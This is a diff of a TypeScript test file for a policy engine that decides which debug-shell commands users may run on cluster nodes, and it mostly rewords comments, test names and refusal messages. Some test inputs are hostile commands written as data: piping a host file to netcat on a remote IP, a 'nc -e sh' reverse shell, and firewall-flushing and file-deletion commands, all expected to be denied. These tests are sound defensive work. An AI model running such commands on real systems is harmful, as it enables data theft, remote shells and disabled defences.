@@ -123,9 +123,9 @@ test.each<[string, string, string, Where?]>([
   expect(short(ask(as, typed, ...where))).toBe(expected)
 })
 
-// T07: one set covers the whole request; what several sets give is never put together.
+// T07: one set has to cover the whole request; rights of several sets are never combined.
 test.each([
-  // curl from one set, the node's disk from another.
+  // curl is in one set, the node's file system in another.
   ['shell -m node001 curl http://x', 'deny host'],
   ['shell -c NET_ADMIN node001 curl http://x', 'deny capabilities'],
   ['shell node001 cat /host/etc/hosts | nc 10.0.0.1 9', 'deny tool'],
@@ -135,7 +135,7 @@ test.each([
   expect(short(ask('carol@example.com', typed))).toBe(expected)
 })
 
-// T08: every flag is part of what is judged.
+// T08: every flag is authorized.
 test.each([
   ['shell --host-pid node001 dig x', 'deny host'],
   ['shell -m node001 ping x', 'deny host'],
@@ -154,13 +154,13 @@ test.each([
   expect(short(ask('carol@example.com', typed))).toBe(expected)
 })
 
-test('SYS_ADMIN and ALL are given by their own names only', () => {
+test('SYS_ADMIN and ALL are granted only by name', () => {
   expect(short(ask('root@example.com', 'shell -c ALL node001 dig x'))).toBe('allow everything')
   expect(short(ask('root@example.com', 'shell -c NET_RAW node001 dig x'))).toBe('allow everything')
   expect(short(ask('root@example.com', 'shell -c SYS_ADMIN node001 dig x'))).toBe('deny capabilities')
 })
 
-test('a special argument is named even by who has every tool', () => {
+test('a special argument has to be granted by name, even with a grant for every tool', () => {
   expect(short(ask('root@example.com', 'shell node001 nc -e sh 10.0.0.1 1'))).toBe('deny special-argument')
 })
 
@@ -171,24 +171,24 @@ test('another image has to be granted by name', () => {
   expect(short(ask('puller@example.com', 'shell --retina-shell-image-repo b.io/x node001 ping x'))).toBe('deny image')
 })
 
-test('a grant without conditions wins over one that asks', () => {
+test('a grant without conditions wins over one that needs approval', () => {
   expect(short(ask('dora@example.com', 'shell node001 iptables -F'))).toBe('allow firewall')
   expect(short(ask('dora@example.com', 'shell node001 nft flush ruleset'))).toBe('deny capabilities')
   expect(short(ask('dora@example.com', 'shell -w node001 rm /host/x'))).toBe('ask host-write')
 })
 
-test('a refusal names the sets that would cover it, and says the same of targets that are and aren’t there', () => {
+test('a refusal names the sets that would cover it, and is the same for existing and missing targets', () => {
   expect(ask('carol@example.com', 'shell node001 iptables -F')).toMatchObject({
     reason: 'effect',
-    message: 'Not allowed: "netfilter" is for reading, and this may change the target.',
+    message: 'Not allowed: "netfilter" is read-only, and this may change the target.',
     wouldNeed: ['firewall', 'everything'],
   })
   expect(ask('nobody@example.com', 'shell node001 dig x')).toMatchObject({
-    message: 'Nothing is granted to you on node/node001.',
+    message: 'You have no grant on node/node001.',
   })
 })
 
-test('a target may be named by those alone who have some grant on it', () => {
+test('a target may be named only by people with a grant on it', () => {
   const by = { id: 'carol@example.com', name: 'Carol', groups: [] }
   const named = (labels: Record<string, string>) => ({
     target: { kind: 'node' as const, cluster: 'prod-eu', name: 'n1' },
